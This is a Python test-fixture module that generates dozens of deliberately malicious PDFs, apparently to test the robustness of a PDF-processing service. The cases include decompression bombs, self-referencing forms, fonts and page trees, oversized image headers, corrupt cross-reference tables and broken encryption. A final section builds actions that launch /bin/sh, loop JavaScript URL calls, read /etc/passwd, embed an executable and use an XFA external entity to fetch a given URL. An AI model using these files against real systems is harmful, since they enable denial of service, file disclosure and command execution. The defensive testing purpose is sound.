"""PDFs that want to do harm, made by hand; nothing in them is anybody's.

`ATTACKS` has each by name: what it is made with, and the reason that its job must be held
with where that is certain. An empty reason means that the pages may as well come out: the
engines mend a lot.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

MIB = 1 << 20
Attack = tuple[Callable[[], bytes], str]


def pdf(objects: Sequence[bytes], trailer: bytes = b"", start: bytes | None = None) -> bytes:
    """Return a PDF of `objects`, numbered from 1; the first is the catalog."""
    data, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return data + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R %s >>\n"
        b"startxref\n%s\n%%%%EOF\n"
        % (size, table, size, trailer, b"%d" % len(data) if start is None else start)
    )


def stream(data: bytes, inside: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), inside, data)


def page(
    content: bytes = b"",
    resources: bytes = b"",
    *more: bytes,
    inside: bytes = b"/MediaBox [0 0 200 200]",
    catalog: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """Return a PDF of one page. Object 4 is its content, those of `more` are from 5 on."""
    contents = content if content.startswith(b"<<") else stream(content)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << %s >> %s >>"
            % (resources, inside),
            contents,
            *more,
        ],
        trailer,
    )


def deflated(unit: bytes, times: int) -> bytes:
    """Return `unit`, `times` over, as zlib has it, without ever having it in memory."""
    packer = zlib.compressobj(9)
    first = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (times - 1) + b"\x03\x00" + bytes(4)


def lzw(cycles: int) -> bytes:
    """Return zeros as LZW has them, 7 MiB a cycle."""
    codes, width, known = [(256, 9)], 9, 258
    codes.append((0, 9))
    while known < 4093:
        width = 9 if known < 511 else 10 if known < 1023 else 11 if known < 2047 else 12
        codes.append((known, width))
        known += 1
    bits = "".join(f"{code:0{wide}b}" for code, wide in codes) * cycles + f"{257:012b}"
    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")


def filtered(data: bytes, filters: bytes) -> bytes:
    return page(stream(data, b"/Filter " + filters))


def image(data: bytes, inside: bytes, side: int = 100, *more: bytes) -> bytes:
    """Return a page that draws an image of `side` pixels a side, or so it says."""
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (side, side, inside)
    return page(b"100 0 0 100 0 0 cm /I Do", b"/XObject << /I 5 0 R >>", stream(data, head), *more)


def form(content: bytes, resources: bytes = b"") -> bytes:
    return stream(
        content,
        b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << %s >>" % resources,
    )


# -- what unpacks to more than there is --


def bombs() -> dict[str, Attack]:
    spaces, zeros = b" " * MIB, bytes(MIB)
    gray = b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter "
    wide = b"/Columns 2147483647 /Colors 32 /BitsPerComponent 16"
    sized = deflated(zeros, 1024)
    masked = stream(
        bytes(9),
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /SMask 6 0 R " + gray[:-8],
    )
    return {
        "flate 1 GiB": (lambda: filtered(deflated(spaces, 1024), b"/FlateDecode"), ""),
        "flate of flate 64 GiB": (
            lambda: filtered(
                zlib.compress(deflated(spaces, 65536), 9), b"[/FlateDecode /FlateDecode]"
            ),
            "",
        ),
        "flate five deep": (
            lambda: filtered(
                zlib.compress(zlib.compress(zlib.compress(zlib.compress(sized, 9), 9), 9), 9),
                b"[/FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode]",
            ),
            "",
        ),
        "flate 10 000 filters": (
            lambda: filtered(zlib.compress(b"q Q"), b"[" + b"/FlateDecode " * 10_000 + b"]"),
            "",
        ),
        "lzw": (lambda: filtered(lzw(60), b"/LZWDecode"), ""),
        "run length": (lambda: filtered(b"\x81 " * (4 * MIB), b"/RunLengthDecode"), ""),
        "hex in flate": (
            lambda: filtered(deflated(b"20" * (MIB // 2), 512), b"[/FlateDecode /ASCIIHexDecode]"),
            "",
        ),
        "ascii85 in flate": (
            lambda: filtered(deflated(b"z" * MIB, 128), b"[/FlateDecode /ASCII85Decode]"),
            "",
        ),
        "flate predictor": (
            lambda: filtered(
                zlib.compress(bytes(1000)),
                b"/FlateDecode /DecodeParms << /Predictor 15 %s >>" % wide,
            ),
            "",
        ),
        "flate image": (lambda: image(sized, gray + b"/FlateDecode", 32_000), ""),
        "image that has no data": (lambda: image(b"", gray + b"/FlateDecode", 2_000_000_000), ""),
        "image and a mask that is itself masked": (
            lambda: image(bytes(10_000), gray[:-8] + b"/SMask 6 0 R", 100, masked),
            "",
        ),
        "ccitt": (
            lambda: image(
                b"\x00" * 1000,
                b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode "
                b"/DecodeParms << /K -1 /Columns 1000000000 /Rows 1000000000 >>",
            ),
            "",
        ),
        "jbig2": (lambda: image(_jbig2(), gray + b"/JBIG2Decode", 30_000), ""),
        "jpx": (lambda: image(_jpx(), b"/Filter /JPXDecode", 60_000), ""),
        "dct": (lambda: image(_dct(), gray + b"/DCTDecode", 65_000), ""),
        "colours of themselves": (
            lambda: image(
                bytes(9),
                b"/ColorSpace 6 0 R /BitsPerComponent 8",
                3,
                b"[/Indexed 6 0 R 255 <00>]",
            ),
            "",
        ),
        "inline image": (
            lambda: page(b"BI /W 100000 /H 100000 /CS /RGB /BPC 16 ID 0123456789 EI"),
            "",
        ),
    }


def _jbig2() -> bytes:
    """Page information, then a generic region of 0x7fffffff by 0x7fffffff."""
    side = (0x7FFFFFFF).to_bytes(4, "big")
    info = side + side + bytes(8) + b"\x00\x00\x00"
    region = side + side + bytes(9) + b"\x00" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + bytes(64)

    def segment(number: int, kind: int, data: bytes) -> bytes:
        head = number.to_bytes(4, "big") + bytes([kind, 0, 1])
        return head + len(data).to_bytes(4, "big") + data

    return segment(0, 48, info) + segment(1, 38, region)


def _jpx() -> bytes:
    """A JPEG 2000 code stream that says it is of 2 147 483 647 pixels a side."""
    side = (0x7FFFFFFF).to_bytes(4, "big")
    size = b"\x00\x00" + side + side + bytes(8) + b"\x00\x00\x00\x01" * 2 + bytes(8)
    size += b"\x00\x03" + b"\x07\x01\x01" * 3
    return b"\xff\x4f\xff\x51" + (len(size) + 2).to_bytes(2, "big") + size + bytes(100)


def _dct() -> bytes:
    head = b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00"
    return head + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 100 + b"\xff\xd9"


# -- pages of no size, or of too much; more pages than there can be --


def sizes() -> dict[str, Attack]:
    def boxed(inside: bytes) -> Callable[[], bytes]:
        return lambda: page(b"0 0 50 50 re f", inside=inside)

    def counted(count: bytes, kids: bytes) -> Callable[[], bytes]:
        return lambda: pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Count %s /Kids [%s] >>" % (count, kids),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ]
        )

    large = "page too large"
    return {
        "box of 14 400 inches": (boxed(b"/MediaBox [0 0 1036800 1036800]"), large),
        "box of 1e30": (boxed(b"/MediaBox [0 0 1" + b"0" * 30 + b" 1" + b"0" * 30 + b"]"), ""),
        "box of many digits": (boxed(b"/MediaBox [0 0 " + b"9" * 5000 + b" 9]"), ""),
        "box one point high": (boxed(b"/MediaBox [0 0 2000000 1]"), large),
        "box turned round": (boxed(b"/MediaBox [200 200 0 0]"), ""),
        "box of nothing": (boxed(b"/MediaBox [7 7 7 7]"), ""),
        "box of words": (boxed(b"/MediaBox [/a (b) << >> null]"), ""),
        "box of itself": (boxed(b"/MediaBox 3 0 R"), ""),
        "crop outside": (boxed(b"/MediaBox [0 0 9 9] /CropBox [900 900 990 990]"), ""),
        "user unit of a million": (boxed(b"/MediaBox [0 0 200 200] /UserUnit 1000000"), ""),
        "rotate by 1e9": (boxed(b"/MediaBox [0 0 200 200] /Rotate 1000000007"), ""),
        "100 000 pages": (counted(b"100000", b"3 0 R " * 100_000), "too many pages"),
        "a thousand million pages": (counted(b"1000000000", b"3 0 R"), ""),
        "less than no pages": (counted(b"-5", b"3 0 R"), ""),
        "no pages at all": (counted(b"0", b""), "document empty"),
        "pages of themselves": (counted(b"3", b"2 0 R 2 0 R 3 0 R"), ""),
        "pages that are not there": (counted(b"9", b"90 0 R 91 0 R"), ""),
    }


# -- what leads round in a circle, or ever deeper --


def chain(levels: int, times: int) -> bytes:
    """Forms that each draw the next one so many times."""
    forms = [
        form(b"/X Do " * times, b"/XObject << /X %d 0 R >>" % (6 + level))
        for level in range(levels)
    ]
    return page(b"/X Do", b"/XObject << /X 5 0 R >>", *forms, form(b"0 0 9 9 re f"))


def deep_tree(levels: int) -> bytes:
    nodes = [
        b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (level + 3, level + 1)
        for level in range(levels)
    ]
    leaf = b"<< /Type /Page /MediaBox [0 0 9 9] /Parent %d 0 R >>" % (levels + 1)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def nested(opening: bytes, closing: bytes, levels: int) -> bytes:
    return page(b"q Q", b"/Junk " + opening * levels + closing * levels)


def circles() -> dict[str, Attack]:
    draws = b"/XObject << /X 5 0 R >>"
    fonts = b"/Font << /F 5 0 R >>"
    kind3 = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
        b"/CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 "
        b"/LastChar 97 /Widths [9] /Resources << /Font << /F 5 0 R >> >> >>"
    )
    tiling = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] "
        b"/Resources << /Pattern << /P 5 0 R >> >> "
    )
    painted = b"/Pattern cs /P scn 0 0 200 200 re f"
    return {
        "a form that draws itself": (lambda: page(b"/X Do", draws, form(b"/X Do", draws)), ""),
        "two forms that draw each other": (
            lambda: page(
                b"/X Do",
                draws,
                form(b"/X Do", b"/XObject << /X 6 0 R >>"),
                form(b"/X Do", draws),
            ),
            "",
        ),
        "forms ten to the eighth": (lambda: chain(8, 10), ""),
        "forms a thousand deep": (lambda: chain(1000, 1), ""),
        "a font that calls itself": (
            lambda: page(
                b"BT /F 9 Tf (aaaa) Tj ET", fonts, kind3, stream(b"9 0 d0 /F 9 Tf (aaaa) Tj")
            ),
            "",
        ),
        "a pattern that paints with itself": (
            lambda: page(
                painted, b"/Pattern << /P 5 0 R >>", stream(painted, tiling + b"/XStep 9 /YStep 9")
            ),
            "",
        ),
        "a pattern of tiny steps": (
            lambda: page(
                painted,
                b"/Pattern << /P 5 0 R >>",
                stream(b"0 0 9 9 re f", tiling + b"/XStep 0.0001 /YStep 0.0001"),
            ),
            "",
        ),
        "a soft mask of itself": (
            lambda: page(
                b"/G gs 0 0 99 99 re f",
                b"/ExtGState << /G 5 0 R >>",
                b"<< /Type /ExtGState /SMask << /S /Luminosity /G 6 0 R >> >>",
                stream(
                    b"/G gs 0 0 99 99 re f",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Group << /S /Transparency "
                    b"/CS /DeviceGray >> /Resources << /ExtGState << /G 5 0 R >> >>",
                ),
            ),
            "",
        ),
        "a page tree 5 000 deep": (lambda: deep_tree(5000), ""),
        "outlines in a circle": (
            lambda: page(
                b"",
                b"",
                b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 9 >>",
                b"<< /Title (x) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R /Last 6 0 R >>",
                catalog=b"/Outlines 5 0 R",
            ),
            "",
        ),
        "a names tree in a circle": (
            lambda: page(b"", b"", b"<< /Kids [5 0 R] >>", catalog=b"/Names << /Dests 5 0 R >>"),
            "",
        ),
        "form fields in a circle": (
            lambda: page(
                b"",
                b"",
                b"<< /T (a) /FT /Tx /Kids [5 0 R] /Parent 5 0 R /Subtype /Widget "
                b"/Rect [0 0 9 9] >>",
                catalog=b"/AcroForm << /Fields [5 0 R] /NeedAppearances true >>",
                inside=b"/MediaBox [0 0 99 99] /Annots [5 0 R]",
            ),
            "",
        ),
        "an annotation drawn by itself": (
            lambda: page(
                b"",
                b"",
                b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 6 0 R >> >>",
                form(b"/X Do", b"/XObject << /X 6 0 R >>"),
                inside=b"/MediaBox [0 0 99 99] /Annots [" + b"5 0 R " * 1000 + b"]",
            ),
            "",
        ),
        "contents of themselves": (
            lambda: page(b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"),
            "",
        ),
        "an object that is itself": (
            lambda: page(b"/X Do", draws, b"5 0 R", catalog=b"/Names 5 0 R"),
            "",
        ),
        "parents in a circle": (
            lambda: page(b"q Q", inside=b"/Parent 3 0 R"),
            "",
        ),
        "arrays 100 000 deep": (lambda: nested(b"[", b"]", 100_000), ""),
        "tables 100 000 deep": (lambda: nested(b"<< /A ", b" >>", 100_000), ""),
        "brackets 100 000 deep": (lambda: page(b"[" * 100_000), ""),
        "strings 100 000 deep": (lambda: page(b"(" * 100_000 + b")" * 100_000 + b" Tj"), ""),
        "states a million deep": (lambda: page(b"q " * 1_000_000), ""),
        "marked content without end": (lambda: page(b"/A BMC " * 500_000), ""),
    }


# -- functions, shadings, fonts, and drawing that takes for ever --


def drawing() -> dict[str, Attack]:
    def shaded(function: bytes, kind: int = 2, *more: bytes) -> Callable[[], bytes]:
        shading = (
            b"<< /ShadingType %d /ColorSpace /DeviceGray /Coords [0 0 200 200] "
            b"/Domain [0 1 0 1] /Extend [true true] /Function 6 0 R >>" % kind
        )
        return lambda: page(b"/S sh", b"/Shading << /S 5 0 R >>", shading, function, *more)

    stitching = b"<< /FunctionType 3 /Domain [0 1] /Functions [%s] /Bounds [%s] /Encode [%s] >>"
    calculator = b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]"
    mesh = (
        b"/ShadingType 7 /ColorSpace /DeviceRGB /BitsPerCoordinate 32 /BitsPerComponent 16 "
        b"/BitsPerFlag 8 /Decode [-1e9 1e9 -1e9 1e9 0 1 0 1 0 1]"
    )
    truetype = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>"
    font = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 "
        b"/Widths 5 0 R /FontDescriptor 6 0 R /ToUnicode 8 0 R >>"
    )
    many = b" ".join(b"/F%d << /Type /Font /Subtype /Type1 /BaseFont /N%d >>" % (n, n)
                     for n in range(3000))  # fmt: skip
    return {
        "a function of itself": (shaded(stitching % (b"6 0 R", b"", b"0 1")), ""),
        "a function of ten thousand": (
            shaded(
                stitching % (b"7 0 R " * 10_000, b"0.5 " * 9_999, b"0 1 " * 10_000),
                2,
                b"<< /FunctionType 2 /Domain [0 1] /N 1e300 >>",
            ),
            "",
        ),
        "a calculator of braces": (
            shaded(stream(b"{" * 50_000 + b"}" * 50_000, calculator), 1),
            "",
        ),
        "a calculator that copies": (
            shaded(stream(b"{ " + b"dup 100000 copy 99 -1 roll " * 500 + b"}", calculator), 1),
            "",
        ),
        "a sampled function of no end": (
            shaded(
                stream(
                    b"0" * 100,
                    b"/FunctionType 0 /Domain [0 1 0 1] /Range [0 1] "
                    b"/Size [2147483647 2147483647] /BitsPerSample 32",
                ),
                1,
            ),
            "",
        ),
        "a mesh of noise": (
            lambda: page(b"/S sh", b"/Shading << /S 5 0 R >>", stream(b"\x00\xa7" * 100_000, mesh)),
            "",
        ),
        "dashes without end": (
            lambda: page(b"[0.00001 0.00001] 0 d 0.1 w 0 0 m 100000000 100000000 l S"),
            "",
        ),
        "a million lines": (
            lambda: page(b"0 0 m " + b"200 200 l 0 100 l 200 0 l " * 300_000 + b"f*"),
            "",
        ),
        "clips without end": (lambda: page(b"0 0 99 99 re W n " * 200_000), ""),
        "letters of a million points": (
            lambda: page(
                b"BT /F 1000000 Tf " + b"(W) Tj " * 1000 + b"ET",
                b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>",
            ),
            "",
        ),
        "numbers that are too large": (
            lambda: page(b"9" * 100_000 + b" 0 0 -" + b"9" * 400 + b" 1e999 NaN cm 0 0 9 9 re f"),
            "",
        ),
        "fonts without end": (
            lambda: page(
                b"BT " + b" ".join(b"/F%d 9 Tf (x) Tj" % n for n in range(3000)) + b" ET",
                b"/Font << " + many + b" >>",
            ),
            "",
        ),
        "a font file of noise": (
            lambda: page(
                b"BT /F 9 Tf (abc) Tj ET",
                b"/Font << /F %s >>" % font,
                b"[" + b"2147483648 " * 256 + b"]",
                truetype,
                stream(b"\x00\x01\x00\x00\xff\xff" + b"glyfloca\xff\xff\xff\xf0" * 5000),
                stream(b"/X usecmap 1 begincodespacerange <00> <ffffffff> endcodespacerange"),
            ),
            "",
        ),
        "a character map of itself": (
            lambda: page(
                b"BT /F 9 Tf <00010002> Tj ET",
                b"/Font << /F << /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 5 0 R "
                b"/DescendantFonts [6 0 R] /ToUnicode 5 0 R >> >>",
                stream(
                    b"1 begincidrange <00000000> <ffffffff> 0 endcidrange",
                    b"/Type /CMap /CMapName /X /UseCMap 5 0 R",
                ),
                b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /W [0 2147483647 500] "
                b"/CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> >>",
            ),
            "",
        ),
    }


# -- the table of objects --


def tables() -> dict[str, Attack]:
    small = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>",
    ]

    def with_start(start: bytes) -> Callable[[], bytes]:
        return lambda: pdf(small, start=start)

    def with_trailer(trailer: bytes) -> Callable[[], bytes]:
        return lambda: pdf(small, trailer)

    def object_stream(inside: bytes, body: bytes) -> Callable[[], bytes]:
        return lambda: pdf([*small, stream(body, b"/Type /ObjStm " + inside)])

    def cross(inside: bytes, body: bytes) -> Callable[[], bytes]:
        def made() -> bytes:
            data = pdf(small).partition(b"xref\n")[0]
            place = len(data)
            table = stream(zlib.compress(body), b"/Type /XRef /Filter /FlateDecode " + inside)
            return data + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, place)

        return made

    return {
        "start at itself": (with_start(b"0"), ""),
        "start behind the end": (with_start(b"99999999999999999999"), ""),
        "start before the beginning": (with_start(b"-5"), "document damaged"),
        "previous table in a circle": (with_trailer(b"/Prev 300 /XRefStm 300"), ""),
        "a size of two thousand million": (with_trailer(b"/Size 2147483647"), ""),
        "no catalog": (with_trailer(b"/Root 99 0 R"), ""),
        "catalog of itself": (lambda: pdf([b"1 0 R", *small[1:]]), ""),
        "table of a thousand million rows": (
            lambda: pdf(small).replace(b"xref\n0 4", b"xref\n0 1000000000", 1),
            "",
        ),
        "table that points at itself": (
            lambda: pdf(small).replace(b"00000 n", b"99999 n", 2),
            "",
        ),
        "object stream in itself": (object_stream(b"/N 1 /First 4", b"4 0 << >>"), ""),
        "object stream that extends itself": (
            object_stream(b"/N 1 /First 4 /Extends 4 0 R", b"7 0 << >>"),
            "",
        ),
        "object stream of a thousand million": (
            object_stream(b"/N 1000000000 /First -1", b"7 0"),
            "",
        ),
        "object streams in one another": (
            cross(
                b"/Size 10 /W [1 2 1] /Root 1 0 R",
                b"".join(
                    b"\x02" + number.to_bytes(2, "big") + b"\x00"
                    for number in (1, 2, 3, 4, 5, 4, 3, 2, 1, 9)
                ),
            ),
            "",
        ),
        "cross-reference of no width": (
            cross(b"/Size 1000000000 /W [0 0 0] /Root 1 0 R", bytes(100)),
            "",
        ),
        "cross-reference of great width": (
            cross(b"/Size 9 /W [2147483647 8 -8] /Root 1 0 R", bytes(1000)),
            "",
        ),
        "cross-reference of itself": (
            cross(b"/Size 9 /W [1 2 1] /Root 1 0 R /Prev 9 /Index [0 2147483647]", bytes(1000)),
            "",
        ),
    }


# -- what is locked, and what would call out --


def locked() -> dict[str, Attack]:
    def handler(inside: bytes) -> Callable[[], bytes]:
        trailer = b"/ID [<00> <00>] /Encrypt << /Filter /Standard %s >>" % inside
        return lambda: page(b"0 0 9 9 re f", trailer=trailer)

    keys = b"/O (%s) /U (%s)" % (b"o" * 32, b"u" * 32)
    return {
        "encryption of version 99": (handler(b"/V 99 /R 99 /P -1 " + keys), ""),
        "encryption without keys": (handler(b"/V 2 /R 3 /Length 128 /P -4"), ""),
        "encryption of negative length": (handler(b"/V 2 /R 3 /Length -128 /P -4 " + keys), ""),
        "encryption AES broken": (
            handler(b"/V 5 /R 6 /P -4 /StmF /X /StrF /X /CF << /X << /CFM /AESV3 >> >> " + keys),
            "",
        ),
        "encryption by another's handler": (
            lambda: page(trailer=b"/Encrypt << /Filter /Vendor.Secret /V 1 >>"),
            "",
        ),
        "encryption of itself": (lambda: page(trailer=b"/Encrypt 1 0 R"), ""),
    }


def calls(url: str) -> dict[str, Attack]:
    """PDFs that would fetch `url`, or run a program."""
    at = url.encode("ascii")
    embedded = b"/EmbeddedFiles << /Names [(x) 6 0 R] >>"
    filespec = b"<< /FS /URL /F (%s) >>" % at

    def opening(action: bytes) -> Callable[[], bytes]:
        return lambda: page(
            b"", catalog=b"/OpenAction << %s >> /AA << /WC << %s >> >>" % (action, action)
        )

    return {
        "script": (
            opening(b"/S /JavaScript /JS (while \\(true\\) app.launchURL\\('%s'\\);)" % at),
            "",
        ),
        "launch": (opening(b"/S /Launch /F (/bin/sh) /Unix << /F (touch /tmp/launched) >>"), ""),
        "address": (opening(b"/S /URI /URI (%s)" % at), ""),
        "go to remote": (opening(b"/S /GoToR /F %s /D [0 /Fit]" % filespec), ""),
        "submit form": (opening(b"/S /SubmitForm /F %s" % filespec), ""),
        "import data": (opening(b"/S /ImportData /F %s" % filespec), ""),
        "contents elsewhere": (
            lambda: page(
                b"<< /Length 0 /F %s /FFilter /FlateDecode >>\nstream\n\nendstream" % filespec
            ),
            "",
        ),
        "image elsewhere": (
            lambda: image(b"", b"/ColorSpace /DeviceGray /BitsPerComponent 8 /F " + filespec),
            "",
        ),
        "page elsewhere": (
            lambda: page(
                b"/X Do",
                b"/XObject << /X 5 0 R >>",
                stream(
                    b"",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F %s /Page 0 >>"
                    % filespec,
                ),
            ),
            "",
        ),
        "image of this machine": (
            lambda: image(
                b"", b"/ColorSpace /DeviceGray /BitsPerComponent 8 /F (/dev/zero)", 10_000
            ),
            "",
        ),
        "contents of this machine": (
            lambda: page(b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"),
            "",
        ),
        "a program in the file": (
            lambda: page(
                b"",
                b"",
                stream(b"MZ\x90\x00" * 1000, b"/Type /EmbeddedFile"),
                b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
                catalog=b"/Names << %s >>" % embedded,
            ),
            "",
        ),
        "XFA": (
            lambda: page(
                b"",
                b"",
                stream(
                    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>' % at
                ),
                catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
            ),
            "",
        ),
    }


def attacks(url: str) -> dict[str, Attack]:
    """Every PDF made here; those that call out would call `url`."""
    return bombs() | sizes() | circles() | drawing() | tables() | locked() | calls(url)
